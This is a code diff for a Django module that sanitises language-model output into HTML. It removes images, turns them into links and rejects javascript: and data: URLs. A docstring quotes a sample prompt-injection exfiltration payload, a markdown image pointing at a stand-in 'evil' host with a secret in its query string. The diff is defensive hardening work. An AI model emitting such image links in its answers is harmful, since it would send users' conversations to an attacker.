@@ -1,5 +1,7 @@
 """Model output to HTML: markdown with raw HTML off, then sanitised by nh3. Output is untrusted."""
 
+from urllib.parse import urlsplit
+
 import nh3
 from django.utils.html import escape
 from django.utils.safestring import SafeString, mark_safe
@@ -8,6 +10,18 @@ from markdown_it import MarkdownIt
 # "commonmark" with html=False: any <script> or <img onerror> in the source stays text.
 _markdown = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
 _markdown.enable(["table", "strikethrough"])
+
+
+def _image_as_link(renderer, tokens, idx, options, env) -> str:
+    """An image in an answer becomes a link to it: the browser fetching it by itself would let
+    a prompt-injected answer (`![x](https://evil/?secret=...)`) send the conversation away."""
+    token = tokens[idx]
+    alt = renderer.renderInlineAsText(token.children or [], options, env)
+    href = escape(token.attrGet("src") or "")
+    return f'<a href="{href}" class="image-link">Image: {escape(alt or "untitled")}</a>'
+
+
+_markdown.add_render_rule("image", _image_as_link)
 
 ALLOWED_TAGS = {
     "p",
@@ -30,7 +44,6 @@ ALLOWED_TAGS = {
     "h5",
     "h6",
     "a",
-    "img",
     "table",
     "thead",
     "tbody",
@@ -43,26 +56,50 @@ ALLOWED_TAGS = {
 }
 ALLOWED_ATTRIBUTES = {
     "a": {"href", "title"},
-    "img": {"src", "alt", "title"},
     "th": {"align"},
     "td": {"align"},
     "ol": {"start"},
 }
 
 
+URL_SCHEMES = {"http", "https", "mailto"}
+
+
 def render_markdown(text: str) -> SafeString:
     """Markdown to sanitised HTML; links open safely, only http(s)/mailto URLs survive."""
-    html = _markdown.render(text)
+    return sanitize(_markdown.render(text))
+
+
+def sanitize(html: str) -> SafeString:
+    """Any HTML to the small allowed set: no scripts, no event handlers, no htmx or ws
+    attributes (they would act in our page), no images, no URL but http(s) and mailto."""
     clean = nh3.clean(
         html,
         tags=ALLOWED_TAGS,
         attributes=ALLOWED_ATTRIBUTES,
-        url_schemes={"http", "https", "mailto"},
+        url_schemes=URL_SCHEMES,
         link_rel="noopener noreferrer nofollow",
         set_tag_attribute_values={"a": {"target": "_blank"}},
-        allowed_classes={"code": {f"language-{lang}" for lang in _LANGUAGES}},
+        allowed_classes={
+            "code": {f"language-{lang}" for lang in _LANGUAGES},
+            "a": {"image-link"},
+        },
     )
     return mark_safe(clean)  # noqa: S308 - nh3 output is safe by construction
+
+
+def web_url(url: object) -> str | None:
+    """The URL if it is an absolute http(s) one (citations, sources), else None: a stored
+    `javascript:` or `data:` link must never reach an href."""
+    if not isinstance(url, str) or len(url) > 2048:
+        return None
+    try:
+        parts = urlsplit(url.strip())
+    except ValueError:
+        return None
+    if parts.scheme.lower() not in ("http", "https") or not parts.netloc:
+        return None
+    return url.strip()
 
 
 def render_plain(text: str) -> SafeString:
